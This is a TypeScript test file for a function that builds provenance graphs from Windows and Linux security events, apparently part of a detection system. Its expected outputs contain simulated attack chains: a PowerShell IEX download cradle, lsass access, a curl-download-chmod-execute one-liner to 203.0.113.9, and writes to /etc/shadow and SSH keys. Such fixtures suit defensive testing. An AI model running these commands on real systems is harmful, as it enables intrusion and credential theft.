import type { NormalizedEvent } from '../contracts/event.ts';
import { CAPS, FEATURES } from '../contracts/graph.ts';
import { buildGraph } from './build-graph.ts';
import {
  END,
  eventAt,
  graphOf,
  linuxAttack,
  panesOf,
  told,
  windowOf,
  windowsAttack,
} from './graph-fixtures.ts';

const CAST = { user: 'bo', address: '203.0.113.9' };
const OTHERS = { user: 'alexandra', address: '198.51.100.77' };

function shuffled<T>(items: readonly T[]): readonly T[] {
  let seed = 7;
  const keyed = items.map((item) => {
    seed = (seed * 48_271) % 2_147_483_647;
    return { item, seed };
  });
  return keyed.sort((a, b) => a.seed - b.seed).map(({ item }) => item);
}

describe('buildGraph() on Windows', () => {
  test('tells an attack as one graph, what repeats merged, the encoded argument decoded', () => {
    const graph = graphOf('windows', windowsAttack(CAST));
    expect(told(graph)).toEqual([
      'WINWORD.EXE (400) -spawned-> powershell.exe (500) ×1',
      'powershell.exe (500) -executed-> C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe ×1',
      "powershell.exe (500) -executed-> IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') ×1",
      'powershell.exe (500) -connected-to-> 203.0.113.9:80/tcp ×1',
      'powershell.exe (500) -executed-> Get-Process lsass ×1',
      'powershell.exe (500) -set-> hku\\*\\software\\microsoft\\windows ×1',
      'powershell.exe (500) -accessed-> lsass.exe (640) ×3',
      'powershell.exe (500) -wrote-> C:\\Users\\bo\\AppData\\x.exe ×1',
      'powershell.exe (500) -executed-> C:\\Users\\bo\\AppData\\x.exe ×1',
    ]);
    expect(graph.nodesPerType).toEqual([3, 2, 2, 1, 1]);
    expect(graph.eventCount).toBe(9);
    expect(graph.truncated).toBeUndefined();
    expect(graph.features).toHaveLength(9 * FEATURES);
  });

  test('keeps the first and last time of a merged edge and the id of its most recent event', () => {
    const events = windowsAttack(CAST);
    const graph = graphOf('windows', events);
    const edge = graph.count.indexOf(3);
    expect([graph.first[edge], graph.last[edge]]).toEqual([130, 128]);
    expect(graph.edgeEvents[edge]).toBe(events.find(({ timestamp }) => timestamp === END - 128)?.event_id);
  });

  test('counts one start once when Sysmon and the security log both tell of it', () => {
    const image = 'C:\\Windows\\System32\\cmd.exe';
    const graph = graphOf('windows', [
      eventAt('windows', 1, 'process_create', { process_id: 9, image }),
      eventAt('windows', 1.2, 'process_create', { process_id: 9, process_guid: '{C1}', image }),
      eventAt('windows', 20, 'process_create', { process_id: 9, image }),
    ]);
    expect(graph.nodesPerType[0]).toBe(2);
  });

  test('attaches what names only a process id to the process that bore it then', () => {
    const image = 'C:\\a\\x.exe';
    const graph = graphOf('windows', [
      eventAt('windows', 1, 'process_create', { process_id: 9, image }),
      eventAt('windows', 50, 'dns_query', { process_id: 9, query_name: 'one.test' }),
      eventAt('windows', 55, 'process_create', { process_id: 9, image: 'C:\\a\\y.exe' }),
      eventAt('windows', 95, 'dns_query', { process_id: 9, query_name: 'two.test' }),
    ]);
    expect(told(graph)).toContain('x.exe (9) -connected-to-> one.test ×1');
    expect(told(graph)).toContain('y.exe (9) -connected-to-> two.test ×1');
  });
});

describe('buildGraph() on Linux', () => {
  test('keeps a process through fork and exec, and folds ordinary reads to their folder', () => {
    const graph = graphOf('linux', linuxAttack(CAST));
    expect(told(graph)).toEqual([
      'nginx (70) -spawned-> curl (71) ×1',
      'curl (71) -executed-> /usr/bin/dash ×1',
      'curl (71) -executed-> curl http://203.0.113.9/t -o /tmp/t; chmod +x /tmp/t ×1',
      'curl (71) -executed-> /usr/bin/curl ×1',
      'curl (71) -connected-to-> 203.0.113.9:80/tcp ×1',
      'curl (71) -wrote-> /tmp/t ×1',
      'curl (71) -spawned-> t (80) ×1',
      't (80) -executed-> /tmp/t ×1',
      't (80) -performed-> setuid ×1',
      't (80) -wrote-> /etc/shadow ×1',
      't (80) -wrote-> /usr/lib/locale/* ×2',
      't (80) -wrote-> /home/bo/.ssh/id_rsa ×1',
    ]);
  });

  test('begins a new process when an ended id is executed again', () => {
    const graph = graphOf('linux', [
      eventAt('linux', 1, 'process_create', { process_id: 5, parent_process_id: 2, image: '/bin/ls' }),
      eventAt('linux', 2, 'process_end', { process_id: 5 }),
      eventAt('linux', 40, 'process_create', { process_id: 5, parent_process_id: 2, image: '/bin/cat' }),
    ]);
    expect(graph.labels.slice(0, graph.nodesPerType[0])).toEqual(['? (2)', 'ls (5)', 'cat (5)']);
  });
});

describe.each([
  ['windows', windowsAttack],
  ['linux', linuxAttack],
] as const)('buildGraph() for %s', (platform, attack) => {
  test('gives the same graph in whatever order the events of a pane arrived', () => {
    expect(graphOf(platform, shuffled(attack(CAST)))).toEqual(graphOf(platform, attack(CAST)));
  });

  test('gives equal content one tick later when nothing happened since', () => {
    const late = attack(CAST).map((event) => ({ ...event, timestamp: event.timestamp + 31 }));
    const panes = panesOf(platform, late);
    const now = buildGraph(windowOf(platform), panes);
    const next = buildGraph(windowOf(platform, END + 30), panes.slice(1));
    expect(next.contentHash).toBe(now.contentHash);
    expect(next.windowId).not.toBe(now.windowId);
    expect(next.first).not.toEqual(now.first);
  });

  test('gives the same features for another host, user and address of the same kind', () => {
    const elsewhere = attack(OTHERS).map(
      (event): NormalizedEvent => ({ ...event, hostname: 'srv-9', endpoint_id: 'srv-9' }),
    );
    const graph = graphOf(platform, elsewhere);
    expect(graph.features).toEqual(graphOf(platform, attack(CAST)).features);
    expect(graph.contentHash).toBe(graphOf(platform, attack(CAST)).contentHash);
  });

  test('gives another content when something else happened', () => {
    const more = [
      ...attack(CAST),
      eventAt(platform, 100, 'dns_query', { process_id: 71, query_name: 'a.test' }),
    ];
    expect(graphOf(platform, more).contentHash).not.toBe(graphOf(platform, attack(CAST)).contentHash);
  });
});

describe('buildGraph() beyond its caps', () => {
  test('keeps what is rare and recent of a flood and says what it cut', () => {
    const flood = Array.from({ length: CAPS.nodes.network + 50 }, (_, i) =>
      [0, 1].map((again) =>
        eventAt('linux', i / 100 + again * 5, 'network_connect', {
          process_id: 7,
          protocol: 'tcp',
          destination_ip: `10.0.${i >> 8}.${i & 255}`,
          destination_port: 445,
        }),
      ),
    ).flat();
    const once = eventAt('linux', 0.001, 'network_connect', {
      process_id: 7,
      protocol: 'tcp',
      destination_ip: '203.0.113.9',
      destination_port: 4444,
    });
    const graph = graphOf('linux', [once, ...flood]);
    expect(graph.nodesPerType[3]).toBe(CAPS.nodes.network);
    expect(graph.truncated).toEqual({ nodes: { network: 51 }, edges: 51 });
    expect(graph.labels).toContain('203.0.113.9:4444/tcp');
    expect(graph.labels).toContain(`10.0.1.49:445/tcp`);
    expect(graph.labels).not.toContain('10.0.0.0:445/tcp');
  });

  test('holds a bounded number of names however many a pane sees, and counts the rest', () => {
    const limit = 2 * CAPS.nodes.file;
    const events = Array.from({ length: limit + 500 }, (_, i) =>
      eventAt('linux', i / 1000, 'file_write', {
        process_id: 7,
        target_filename: `/srv/${String.fromCharCode(97 + (i % 26), 97 + ((i / 26) % 26), 97 + i / 676)}`,
      }),
    );
    const graph = graphOf('linux', events);
    expect(graph.nodesPerType[1]).toBe(CAPS.nodes.file);
    expect(graph.truncated?.nodes.file).toBe(limit - CAPS.nodes.file + 500);
  });
});
